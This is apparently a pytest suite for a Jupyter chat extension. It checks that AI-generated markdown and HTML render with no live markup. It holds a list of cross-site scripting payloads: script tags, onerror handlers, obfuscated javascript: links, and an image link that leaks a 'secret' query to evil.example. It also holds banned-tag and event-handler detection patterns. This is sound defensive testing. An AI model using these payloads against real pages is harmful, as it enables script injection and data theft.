"""render.py: model output never reaches the page as live markup, and bundles show what they should.

The markdown checks render ``safe_markdown`` output the way JupyterLab treats a trusted output:
raw HTML on and every link destination accepted. Rendered HTML is then read with the stdlib
HTML parser, so a check looks at real elements and attributes, not at escaped text.
"""

from __future__ import annotations

import base64
import html
import json
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from amigo_magic import sanitize
from amigo_magic.live_markdown import LiveMarkdown
from amigo_magic.render import (
    AnswerState,
    AnswerView,
    answer_bundle,
    escape_stream_html,
    image_bundle,
    status_text,
)
from amigo_magic.sanitize import (
    extract_code,
    safe_html_from_markdown,
    safe_markdown,
    sanitize_html,
)

# ------------------------------------------------------------------------------------------
# Payloads and checks

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1">',
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    "[click](javascript:window.__pwned=1)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "![](https://evil.example/?q=secret)",
    '<a href="javascript:alert(1)">a</a>',
    "<details open ontoggle=alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '- item\n\n  <div onclick="window.__pwned=1">raw block in a list</div>\n\n- next',
    "<scr<script>ipt>alert(1)</script>",
    "<!-- a comment -->",
    "<style>body{display:none}</style>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    # obfuscated schemes and other ways to spell a destination
    "[x](java\tscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    "> [x](\n> javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]\n\n[x]:\n  <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<http://example.com>",
    # images in every spelling
    "!![a](https://evil.example/a.png)",
    "![a][r]\n\n[r]: https://evil.example/r.png",
    "![r]\n\n[r]: https://evil.example/r.png",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    # escaping changes the block structure; the next pass must see the new structure
    "para\n<pre>x</pre>\n    [x](javascript:alert(1))\n",
    "<!--\n\n    <script>alert(1)</script> -->",
    "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
    # a backtick in a link destination is not a code span opener
    "[a](x`y) <script>alert(1)</script> `z`",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
]

BANNED_TAGS = (
    *("script", "iframe", "svg", "img", "object", "embed", "style", "form", "meta", "link"),
    *("base", "math", "details", "input", "textarea", "frame", "video", "audio", "source"),
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "srcset", "data"}
)
BAD_SCHEME = re.compile(r"(javascript|data|vbscript|file):")
EVENT_HANDLER_IN_TAG = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)


class Dom(HTMLParser):
    """Elements, attributes, comments and the text inside <code> of an HTML fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.code_texts: list[str] = []
        self._in_code = False
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "code":
            self._in_code = True
            self.code_texts.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self._in_code = False

    def handle_data(self, data: str) -> None:
        if self._in_code:
            self.code_texts[-1] += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    def links(self) -> list[dict[str, str]]:
        return [attrs for tag, attrs in self.elements if tag == "a"]


def assert_inert_html(fragment: str) -> None:
    lowered = fragment.lower()
    for tag in BANNED_TAGS:
        assert f"<{tag}" not in lowered, (tag, fragment)
    assert "<!--" not in fragment
    assert not EVENT_HANDLER_IN_TAG.search(fragment), fragment
    dom = Dom(fragment)
    assert not set(dom.tags()) & set(BANNED_TAGS), fragment
    assert not dom.comments
    for tag, attrs in dom.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, fragment)
            assert name not in ("srcdoc", "id"), (tag, name, fragment)
            if name in URL_ATTRIBUTES:
                probe = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
                assert not BAD_SCHEME.match(probe), (tag, name, value, fragment)


class TrustingMarkdownIt(MarkdownIt):
    """What a trusted JupyterLab output does with markdown: raw HTML on, no link validation."""

    def validateLink(self, url: str) -> bool:
        return True


TRUSTING = TrustingMarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def assert_inert_markdown(markdown: str) -> None:
    for token in TRUSTING.parse(markdown):
        for child in [token, *(token.children or [])]:
            assert child.type not in ("html_block", "html_inline", "image"), (child, markdown)
    assert_inert_html(TRUSTING.render(markdown))


# The one raw HTML an answer's markdown may hold: its status line, ours, with escaped text.
STATUS_DIV = re.compile(
    r'<div class="amigo-status( amigo-live)?" style="[a-z0-9:;. -]*">[^<>]*</div>\n?'
)


def assert_inert_answer(markdown: str) -> None:
    """An answer's ``text/markdown``: inert model markdown, then only our status line."""
    for token in TRUSTING.parse(markdown):
        if token.type == "html_block":
            assert STATUS_DIV.fullmatch(token.content) or token.content == "<!-- -->\n", token
            continue
        for child in [token, *(token.children or [])]:
            assert child.type not in ("html_block", "html_inline", "image"), (child, markdown)
    assert_inert_html(TRUSTING.render(markdown))


def status_of(markdown: str) -> str:
    """The status line's text, as a reader sees it."""
    found = STATUS_DIV.search(markdown)
    assert found, markdown
    return html.unescape(re.sub(r"<[^>]*>", "", found.group(0))).strip()


# ------------------------------------------------------------------------------------------
# Hostile input


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_markdown_renders_no_live_markup(payload: str) -> None:
    assert_inert_markdown(safe_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_html_from_markdown_renders_no_live_markup(payload: str) -> None:
    assert_inert_html(safe_html_from_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitize_html_leaves_no_live_markup(payload: str) -> None:
    assert_inert_html(sanitize_html(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_a_code_fence_stays_literal_code(payload: str) -> None:
    fenced = f"````html\n{payload}\n````"
    assert safe_markdown(fenced) == fenced  # code is left exactly as written
    for rendered in (TRUSTING.render(safe_markdown(fenced)), safe_html_from_markdown(fenced)):
        assert_inert_html(rendered)
        dom = Dom(rendered)
        assert dom.tags()[:2] == ["pre", "code"]
        assert dom.elements[1][1] == {"class": "language-html"}
        assert dom.code_texts == [payload + "\n"]


def test_safe_markdown_escapes_raw_html_as_visible_text() -> None:
    assert safe_markdown("<script>alert(1)</script>") == "&lt;script>alert(1)&lt;/script>"
    rendered = TRUSTING.render(safe_markdown("Say <b>hi</b>"))
    assert rendered == "<p>Say &lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_safe_markdown_turns_an_escaped_angle_bracket_into_an_entity() -> None:
    # "\<" already meant a literal "<"; "\\<" is a literal backslash and then a raw "<".
    assert safe_markdown("\\<b> \\\\<i>") == "&lt;b> \\\\&lt;i>"


def test_safe_markdown_rewrites_unsafe_destinations_to_hash() -> None:
    assert safe_markdown("[click](javascript:window.__pwned=1)") == "[click](#)"
    assert safe_markdown("[x](JaVaScRiPt:alert(1) 'title')") == "[x](# 'title')"
    assert safe_markdown("[x](&#106;avascript:alert(1))") == "[x](#)"
    assert safe_markdown("[ref]\n\n[ref]: javascript:alert(1)") == "[ref]\n\n[ref]: #"


def test_safe_markdown_turns_images_into_links() -> None:
    assert safe_markdown("![](https://evil.example/?q=secret)") == (
        "[image](https://evil.example/?q=secret)"
    )
    assert safe_markdown("![a chart](https://x.example/c.png)") == (
        "[image: a chart](https://x.example/c.png)"
    )
    assert safe_markdown("!![a](u)") == "\\![image: a](u)"
    assert safe_markdown("\\![not an image](u)") == "\\![not an image](u)"
    links = Dom(TRUSTING.render(safe_markdown("![a](https://x.example/c.png)"))).links()
    assert links == [{"href": "https://x.example/c.png"}]


def test_safe_markdown_keeps_safe_links_and_angle_bracket_destinations_working() -> None:
    text = "[docs](https://example.com/a_(b)) and [mail](mailto:a@example.com) and [rel](../x)"
    assert safe_markdown(text) == text
    assert safe_markdown("[a](<https://x.example/a b>)") == "[a](https://x.example/a%20b)"


def test_safe_markdown_leaves_harmless_markdown_unchanged() -> None:
    text = (
        "# Title\n\nSome **bold**, *em* and ~~gone~~ text with `<b>` in code.\n\n"
        "- one\n- two\n\n1. first\n\n| a | b |\n|:--|--:|\n| `x<y` | 2 |\n\n"
        "> quoted [link](https://example.com)\n\n```python\nif a < b:\n    print('<b>')\n```\n\n"
        "    indented <code>\n"
    )
    assert safe_markdown(text) == text


def test_safe_markdown_escapes_prose_but_not_code_on_the_same_line() -> None:
    assert safe_markdown("Use <b> or `<i>`, a < b") == "Use &lt;b> or `<i>`, a &lt; b"


def test_safe_markdown_follows_block_structure_that_escaping_changed() -> None:
    # The indented line is code after the <pre> HTML block, but prose once "<pre>" is escaped.
    text = "para\n<pre>x</pre>\n    [x](javascript:alert(1))\n"
    assert safe_markdown(text) == "para\n&lt;pre>x&lt;/pre>\n    [x](#)\n"


def test_safe_markdown_falls_back_to_a_code_block_when_rewriting_cannot_be_verified(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sanitize, "_neutralize_prose", lambda source: source)
    text = "<script>alert(1)</script> ````"
    result = safe_markdown(text)
    assert result == f"`````\n{text}\n`````"
    assert_inert_markdown(result)


# ------------------------------------------------------------------------------------------
# Harmless markdown still renders


def test_html_from_markdown_renders_common_markdown() -> None:
    rendered = safe_html_from_markdown(
        "# Title\n\n**bold** and ~~gone~~\n\n- a\n- b\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n"
    )
    assert "<h1>Title</h1>" in rendered
    assert "<strong>bold</strong>" in rendered
    assert "<s>gone</s>" in rendered
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in rendered
    assert '<th style="text-align:right">y</th>' in rendered
    assert '<td style="text-align:right">2</td>' in rendered


def test_html_from_markdown_keeps_code_literal_with_its_language_class() -> None:
    rendered = safe_html_from_markdown("Use `<b>` here.\n\n```python\nprint('<b>')\n```\n")
    dom = Dom(rendered)
    assert dom.code_texts == ["<b>", "print('<b>')\n"]
    assert ("code", {"class": "language-python"}) in dom.elements
    assert "<b>" not in rendered.replace("<code>", "")  # shown, not applied


def test_html_from_markdown_keeps_https_links_with_rel_and_target() -> None:
    links = Dom(safe_html_from_markdown('[docs](https://example.com/x "Docs")')).links()
    assert links == [
        {
            "href": "https://example.com/x",
            "title": "Docs",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
        }
    ]


def test_html_from_markdown_renders_images_as_links() -> None:
    rendered = safe_html_from_markdown("![secret chart](https://evil.example/?q=secret)")
    dom = Dom(rendered)
    assert "img" not in dom.tags()
    assert dom.links()[0]["href"] == "https://evil.example/?q=secret"
    assert ">image: secret chart</a>" in rendered


def test_sanitize_html_keeps_the_allow_list_and_drops_the_rest() -> None:
    cleaned = sanitize_html(
        '<h2 id="x" class="big">T</h2><p style="color:red">p <em>e</em></p>'
        '<table><tbody><tr><td align="RIGHT" style="text-align: center; position: fixed">1</td>'
        '</tr></tbody></table><pre><code class="language-py evil">x</code></pre>'
        '<ol start="3" type="a"><li>c</li></ol><img src="https://evil.example/p.png" alt="p">'
        '<a href="https://example.com" onclick="x()">ok</a>'
        '<span class="language-x" style="text-align:left">s</span>'
    )
    dom = Dom(cleaned)
    assert dom.elements == [
        ("h2", {}),
        ("p", {}),
        ("em", {}),
        ("table", {}),
        ("tbody", {}),
        ("tr", {}),
        ("td", {"align": "right", "style": "text-align:center"}),
        ("pre", {}),
        ("code", {"class": "language-py"}),
        ("ol", {"start": "3"}),
        ("li", {}),
        (
            "a",
            {
                "href": "https://example.com",
                "target": "_blank",
                "rel": "noopener noreferrer nofollow",
            },
        ),
        ("span", {}),
    ]


def test_sanitize_html_drops_script_and_style_content() -> None:
    assert sanitize_html("<p>a<script>steal()</script><style>p{}</style>b</p>") == "<p>ab</p>"


def test_escape_stream_html_escapes_everything() -> None:
    assert escape_stream_html('<b>&"x"\n') == (
        '<div class="amigo-stream" style="white-space: pre-wrap">'
        "&lt;b&gt;&amp;&quot;x&quot;\n</div>"
    )


# ------------------------------------------------------------------------------------------
# Status line


def state(**changes: object) -> AnswerState:
    fields: dict[str, object] = {
        "text": "Hello",
        "model": "gpt-4o",
        "chat": "default",
        "phase": "done",
        "seconds": 2.66,
        "tokens": 120,
    }
    fields.update(changes)
    return AnswerState(**fields)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"phase": "thinking", "text": "", "tokens": None}, "gpt-4o · thinking…"),
        ({"phase": "loading", "text": "", "tokens": None}, "gpt-4o · loading model…"),
        (
            {"phase": "streaming", "tokens": 42, "seconds": 1.3333},
            "gpt-4o · 42 tokens · 31.5 tok/s · 1.3 s",
        ),
        ({"phase": "streaming", "tokens": None, "seconds": 1.3}, "gpt-4o · 1.3 s"),
        ({}, "gpt-4o · 120 tokens · 45.1 tok/s · 2.7 s"),
        ({"tokens": 1, "seconds": 0.0}, "gpt-4o · 1 token · 0.0 s"),
        (
            {"phase": "stopped", "tokens": 42, "seconds": 1.3},
            "■ stopped by you after 1.3 s · gpt-4o · 42 tokens (partial answer kept)",
        ),
        (
            {"phase": "stopped", "text": "", "tokens": None, "seconds": 0.5},
            "■ stopped by you after 0.5 s · gpt-4o",
        ),
        (
            {"phase": "error", "error": "Rate limited; retry in 5 s"},
            "✖ Rate limited; retry in 5 s (partial answer kept)",
        ),
        ({"phase": "error", "text": " ", "error": "Server said\nno"}, "✖ Server said no"),
        (
            {"warning": "2 malformed chunks skipped"},
            "gpt-4o · 120 tokens · 45.1 tok/s · 2.7 s · ⚠ 2 malformed chunks skipped",
        ),
    ],
)
def test_status_text(changes: dict[str, object], expected: str) -> None:
    assert status_text(state(**changes)) == expected


# ------------------------------------------------------------------------------------------
# Answer bundles


@pytest.mark.parametrize("phase", ["thinking", "loading", "streaming"])
@pytest.mark.parametrize("fmt", ["markdown", "text", "html", "code", "json"])
def test_live_bundle_without_a_view_is_plain_code(phase: str, fmt: str) -> None:
    live = state(phase=phase, text="**a** <script>x</script>")
    data, metadata = answer_bundle(live, fmt=fmt)  # type: ignore[arg-type]
    status = status_text(live)
    assert set(data) == {"text/plain", "text/markdown"}
    assert data["text/plain"] == f"**a** <script>x</script>\n\n{status}"
    assert data["text/markdown"].startswith("```\n**a** <script>x</script>\n```\n\n")
    assert 'class="amigo-status amigo-live"' in data["text/markdown"]
    assert status_of(data["text/markdown"]) == status
    assert_inert_answer(data["text/markdown"])
    assert metadata["amigo"]["phase"] == phase


def test_live_view_formats_finished_blocks_and_shows_the_tail_as_code() -> None:
    view = AnswerView()
    text = "# Title\n\nSome **bold** and $x < 1$.\n\n| a |\n| - |\n| $5 |\n\nstill **writ"
    data, _ = view.bundle(state(phase="streaming", text=text))
    markdown = data["text/markdown"]
    assert markdown.startswith("# Title\n\nSome **bold** and $x \\lt  1$.\n\n| a |\n| :- |")
    assert "\n\n```\nstill **writ\n```\n\n<div" in markdown
    assert_inert_answer(markdown)
    rendered = TRUSTING.render(markdown)
    assert "<strong>bold</strong>" in rendered
    assert "<pre><code>still **writ\n</code></pre>" in rendered
    assert view.live.renders == 1


def test_live_view_renders_again_only_when_a_block_finished_and_within_its_share() -> None:
    now = [0.0]
    calls: list[str] = []

    def render(text: str) -> str:
        calls.append(text)
        now[0] += 0.01  # each render "takes" 10 ms
        return text

    live = LiveMarkdown(render, share=0.2, clock=lambda: now[0])
    live.markdown("one\n\ntw")
    live.markdown("one\n\ntwo and more")  # no new finished block: no render
    assert calls == ["one\n\n"]
    now[0] += 0.02  # 20 ms later: a new block finished, but 10 ms / 0.2 = 50 ms are not up
    assert live.markdown("one\n\ntwo\n\nthr").endswith("```\ntwo\n\nthr\n```")
    assert len(calls) == 1
    now[0] += 0.05
    shown = live.markdown("one\n\ntwo\n\nthree")
    assert shown == "one\n\n<!-- -->\n\ntwo\n\n```\nthree\n```"
    assert calls == ["one\n\n", "two\n\n"]  # each block made safe once: linear work


def test_live_view_never_cuts_inside_a_code_fence() -> None:
    live = LiveMarkdown(lambda text: text, clock=lambda: 0.0)
    text = "Intro\n\n```bash\necho $HOME\n\necho $PATH\n"
    assert live.markdown(text) == "Intro\n\n````\n```bash\necho $HOME\n\necho $PATH\n````"
    live = LiveMarkdown(lambda text: text, clock=lambda: 0.0)
    closed = text + "```\n\nAfter"
    assert live.markdown(closed).endswith("echo $PATH\n```\n\n```\nAfter\n```")


def test_thinking_bundle_shows_only_the_status_as_text() -> None:
    data, _ = answer_bundle(state(phase="thinking", text="", tokens=None))
    assert data["text/plain"] == "gpt-4o · thinking…"


@pytest.mark.parametrize("fmt", ["markdown", "code"])
def test_final_markdown_bundle(fmt: str) -> None:
    final = state(text="# Hi\n\n<img src=x onerror=alert(1)> **bold**")
    data, metadata = answer_bundle(final, fmt=fmt)  # type: ignore[arg-type]
    assert set(data) == {"text/markdown", "text/plain"}  # the answer twice, not three times
    assert data["text/markdown"].startswith(
        '# Hi\n\n&lt;img src=x onerror=alert(1)> **bold**\n\n<div class="amigo-status"'
    )
    assert status_of(data["text/markdown"]) == "gpt-4o · 120 tokens · 45.1 tok/s · 2.7 s"
    rendered = TRUSTING.render(data["text/markdown"])
    assert "<h1>Hi</h1>" in rendered
    assert "<strong>bold</strong>" in rendered
    assert data["text/plain"] == f"{final.text}\n\ngpt-4o · 120 tokens · 45.1 tok/s · 2.7 s"
    assert_inert_answer(data["text/markdown"])
    assert metadata == {
        "amigo": {
            "model": "gpt-4o",
            "chat": "default",
            "phase": "done",
            "tokens": 120,
            "seconds": 2.66,
            "format": fmt,
        }
    }


def test_hostile_model_name_and_error_are_escaped_in_every_type() -> None:
    hostile = "<img src=x onerror=alert(1)>*[x](javascript:alert(1))"
    data, _ = answer_bundle(state(phase="error", model=hostile, error=hostile, text="partial"))
    assert_inert_answer(data["text/markdown"])
    assert f"✖ {hostile} (partial answer kept)" in data["text/plain"]
    assert status_of(data["text/markdown"]) == f"✖ {hostile} (partial answer kept)"


def test_status_is_not_swallowed_by_an_unclosed_fence() -> None:
    data, _ = answer_bundle(state(phase="stopped", text="Here:\n\n```python\nprint(1)"))
    assert data["text/markdown"].startswith("Here:\n\n```python\nprint(1)\n```\n\n<div")
    rendered = TRUSTING.render(data["text/markdown"])
    assert 'print(1)\n</code></pre>\n<div class="amigo-status"' in rendered
    assert status_of(data["text/markdown"]).startswith("■ stopped by you")


def test_error_without_text_shows_only_the_status() -> None:
    data, _ = answer_bundle(state(phase="error", text="", error="Bad key"))
    assert status_of(data["text/markdown"]) == "✖ Bad key"
    assert data["text/markdown"].startswith('<div class="amigo-status"')
    assert data["text/plain"] == "✖ Bad key"


def test_final_text_bundle_is_plain_only() -> None:
    data, metadata = answer_bundle(state(text="<b>x</b>"), fmt="text")
    assert data == {"text/plain": "<b>x</b>\n\ngpt-4o · 120 tokens · 45.1 tok/s · 2.7 s"}
    assert metadata["amigo"]["format"] == "text"


def test_final_html_bundle_is_sanitised() -> None:
    text = '<h2>T</h2><img src="https://evil.example/p"><p onclick="x()">p</p>'
    data, _ = answer_bundle(state(text=text), fmt="html")
    assert set(data) == {"text/html", "text/plain"}
    assert data["text/html"].startswith('<h2>T</h2><p>p</p><div class="amigo-status"')
    assert_inert_html(data["text/html"])


def test_json_bundle_parses_a_fenced_answer() -> None:
    data, metadata = answer_bundle(state(text='```json\n{"a": [1, "é"]}\n```'), fmt="json")
    assert data == {
        "application/json": {"a": [1, "é"]},
        "text/plain": '{\n  "a": [\n    1,\n    "é"\n  ]\n}',
    }
    assert metadata["amigo"]["format"] == "json"


def test_json_bundle_reports_where_the_answer_is_not_json() -> None:
    with pytest.raises(ValueError, match=r"^The answer is not valid JSON: ") as caught:
        answer_bundle(state(text='{\n  "a": 1,\n  "b" 2\n}'), fmt="json")
    assert str(caught.value) == (
        "The answer is not valid JSON: Expecting ':' delimiter at line 3, column 7: '  \"b\" 2'"
    )
    with pytest.raises(ValueError, match="line 4, column 7"):  # counted in the fenced answer
        answer_bundle(state(text='```json\n{\n  "a": 1,\n  "b" 2\n}\n```'), fmt="json")


def test_json_bundle_trims_a_long_offending_line() -> None:
    text = '{"k": "' + "x" * 200 + '" "y"}'
    with pytest.raises(ValueError, match="line 1, column 210: '…x") as caught:
        answer_bundle(state(text=text), fmt="json")
    excerpt = "…" + "x" * 74 + '" "y"}'  # 80 characters of the line, the error column in view
    assert str(caught.value).endswith(f": {excerpt!r}")


def test_json_bundle_rejects_nan() -> None:
    with pytest.raises(ValueError, match="NaN is not a JSON value"):
        answer_bundle(state(text='{"a": NaN}'), fmt="json")


def test_stopped_json_answer_is_shown_as_text() -> None:
    data, _ = answer_bundle(state(phase="stopped", text='{"a": 1,'), fmt="json")
    assert set(data) == {"text/plain"}
    assert data["text/plain"].startswith('{"a": 1,\n\n■ stopped by you')


def test_metadata_rounds_seconds_and_holds_nothing_else() -> None:
    _, metadata = answer_bundle(state(seconds=1.23456, tokens=None, warning="w"))
    assert metadata == {
        "amigo": {
            "model": "gpt-4o",
            "chat": "default",
            "phase": "done",
            "tokens": None,
            "seconds": 1.23,
            "format": "markdown",
        }
    }
    json.dumps(metadata)  # must be sendable as is


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="Unknown answer format 'yaml'"):
        answer_bundle(state(), fmt="yaml")  # type: ignore[arg-type]


# ------------------------------------------------------------------------------------------
# Code extraction and images


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Here:\n```python\nprint(1)\n```\nthen\n```js\nx()\n```", ("print(1)", "python")),
        ("~~~\n  plain\n\n~~~", ("  plain", None)),
        ("- item\n\n  ```sh {.x}\n  ls -l\n  ```", ("ls -l", "sh")),
        ("  x = 1\n", ("x = 1", None)),
        ("unclosed\n```py\na = 2\n", ("a = 2", "py")),
    ],
)
def test_extract_code(text: str, expected: tuple[str, str | None]) -> None:
    assert extract_code(text) == expected


def test_image_bundle_round_trips_the_bytes() -> None:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    data, metadata = image_bundle(picture, alt="a fox", model="flux", chat="default")
    assert base64.b64decode(data["image/png"]) == picture
    assert data["text/plain"] == "<image: a fox>"
    assert metadata == {
        "amigo": {"model": "flux", "chat": "default", "format": "image", "alt": "a fox"}
    }
    jpeg, _ = image_bundle(b"\xff\xd8", alt="", mime="image/jpeg", model="m", chat="c")
    assert set(jpeg) == {"image/jpeg", "text/plain"}


def test_image_bundle_refuses_svg() -> None:
    with pytest.raises(ValueError, match="Unsupported image type 'image/svg\\+xml'"):
        image_bundle(b"<svg onload=alert(1)/>", alt="x", mime="image/svg+xml", model="m", chat="c")


def test_render_imports_no_front_end_or_network_stack() -> None:
    code = (
        "import sys, amigo_magic.render\n"
        "print([m for m in ('IPython', 'ipywidgets', 'httpx') if m in sys.modules])"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"


def test_very_long_answers_are_shown_unformatted_and_inert() -> None:
    from amigo_magic.render import UNFORMATTED_ABOVE

    text = "<script>window.__pwned=1</script> **x** ```\n" * (UNFORMATTED_ABOVE // 40 + 1)
    state = AnswerState(text=text, model="m", chat="c", phase="done", seconds=1.0, tokens=9)
    data, _ = answer_bundle(state)
    assert "shown unformatted (over 256 KB)" in data["text/plain"]
    assert set(data) == {"text/markdown", "text/plain"}
    assert data["text/markdown"].startswith("````\n<script>")  # inside a fence longer than any run
    assert data["text/plain"].startswith(text)


# ------------------------------------------------------------------------------------------
# Deep nesting (issue 11, item 15): markdown-it stops at its nesting limit and dropped the rest


class TextOf(HTMLParser):
    """The text a reader sees in an HTML fragment, one string."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    def text(self) -> str:
        return " ".join(" ".join(self.parts).split())


# JupyterLab's markdown renderer (marked) has no nesting limit: render as deep as it would.
DEEP_RENDERER = TrustingMarkdownIt("commonmark", {"html": True, "maxNesting": 10_000})


def nested_list(levels: int) -> str:
    items = "".join(f"{'  ' * i}- level{i}\n" for i in range(levels))
    return f"{items}\nThe closing paragraph stays. After it, **more** text.\n"


@pytest.mark.parametrize("levels", [10, 19])
def test_deeply_nested_lists_keep_the_rest_of_the_answer(levels: int) -> None:
    text = nested_list(levels)
    state = AnswerState(text=text, model="m", chat="c", phase="done", seconds=1.0, tokens=9)
    data, _ = answer_bundle(state)
    for rendered in (
        DEEP_RENDERER.render(data["text/markdown"]),  # the cell's markdown, as the front end
        safe_html_from_markdown(text),  # comparison columns (%%amigo -m a,b)
    ):
        seen = TextOf(rendered).text()
        assert "The closing paragraph stays. After it, more text." in seen
        assert f"level{levels - 1}" in seen
        dom = Dom(rendered)
        assert dom.tags().count("ul") == levels  # still a nested list, not code
        assert "pre" not in dom.tags()
        assert_inert_html(rendered)


@pytest.mark.parametrize(
    "text",
    [
        nested_list(60),
        "> " * 80 + "quoted\n\nThe closing paragraph stays.\n",
        "".join(f"{'   ' * i}1. <b onclick=x>level{i}</b>\n" for i in range(50))
        + "\nThe closing paragraph stays.\n",
    ],
)
def test_nesting_too_deep_to_parse_is_kept_whole_as_code(text: str) -> None:
    state = AnswerState(text=text, model="m", chat="c", phase="done", seconds=1.0, tokens=9)
    data, _ = answer_bundle(state)
    for rendered in (
        DEEP_RENDERER.render(data["text/markdown"]),
        safe_html_from_markdown(text),
    ):
        assert "The closing paragraph stays." in TextOf(rendered).text()
        dom = Dom(rendered)
        assert dom.tags()[:2] == ["pre", "code"]
        assert dom.code_texts[0].rstrip("\n") == text.rstrip("\n")  # every character
        assert_inert_html(rendered)


def test_a_live_answer_past_the_formatting_limit_is_sent_once_as_plain_text() -> None:
    from amigo_magic.render import UNFORMATTED_ABOVE

    text = "<script>x</script> **y**\n\n" * (UNFORMATTED_ABOVE // 20)
    live = AnswerState(text=text, model="m", chat="c", phase="streaming", seconds=1.0, tokens=9)
    data, _ = AnswerView().bundle(live)
    assert set(data) == {"text/plain"}  # one copy per update of a long answer, not two
    assert data["text/plain"].startswith(text)
    assert data["text/plain"].endswith("shown unformatted while this long")
